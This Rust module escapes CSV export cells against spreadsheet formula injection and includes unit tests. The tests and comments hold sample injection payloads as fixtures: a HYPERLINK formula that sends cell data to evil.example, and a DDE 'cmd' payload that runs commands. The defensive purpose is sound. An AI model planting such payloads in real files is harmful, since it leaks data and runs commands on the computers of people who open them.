//! CSV exports that are safe to open in a spreadsheet (calls, campaign results).
//!
//! Cells come from carriers, PBXs, callers and tenants; a cell starting with `=`, `+`, `-`,
//! `@`, tab or carriage return is a formula to Excel, LibreOffice and Google Sheets
//! (`=HYPERLINK(…)` exfiltrates, `=cmd|…` runs commands). Such a cell gets a leading `'`, the
//! OWASP recommendation, which spreadsheets show as text. Plain numbers (`+15550100`, `-3`,
//! `12.5`) are not formulas and stay as they are, so E.164 numbers export unchanged.

use std::borrow::Cow;

/// The cell as written to the CSV: prefixed with `'` when a spreadsheet would read a formula.
pub fn safe_cell(cell: &str) -> Cow<'_, str> {
    let risky = match cell.as_bytes().first() {
        Some(b'=' | b'@' | b'\t' | b'\r') => true,
        Some(b'+' | b'-') => !is_plain_number(&cell[1..]),
        _ => false,
    };
    if risky {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

fn is_plain_number(text: &str) -> bool {
    let mut parts = text.splitn(2, '.');
    let whole = parts.next().unwrap_or_default();
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && parts.next().is_none_or(digits)
}

/// Writes one row with every cell made safe ([`safe_cell`]).
pub fn write_row<I, S>(writer: &mut csv::Writer<Vec<u8>>, cells: I) -> csv::Result<()>
where
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    let cells: Vec<String> = cells
        .into_iter()
        .map(|cell| safe_cell(cell.as_ref()).into_owned())
        .collect();
    writer.write_record(&cells)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Issue 15 item 9: formula cells are escaped; numbers and ordinary text are not.
    #[test]
    fn formulas_are_escaped_and_numbers_are_not() {
        for formula in [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
            "@SUM(A1)",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(safe_cell(formula), format!("'{formula}"), "{formula}");
        }
        for plain in ["+15550100", "-3", "12.5", "answered", "", "a=b"] {
            assert_eq!(safe_cell(plain), plain, "{plain}");
        }
        let mut writer = csv::Writer::from_writer(Vec::new());
        write_row(&mut writer, ["=1+1", "+15550100"]).unwrap();
        let text = String::from_utf8(writer.into_inner().unwrap()).unwrap();
        assert_eq!(text, "'=1+1,+15550100\n");
    }
}
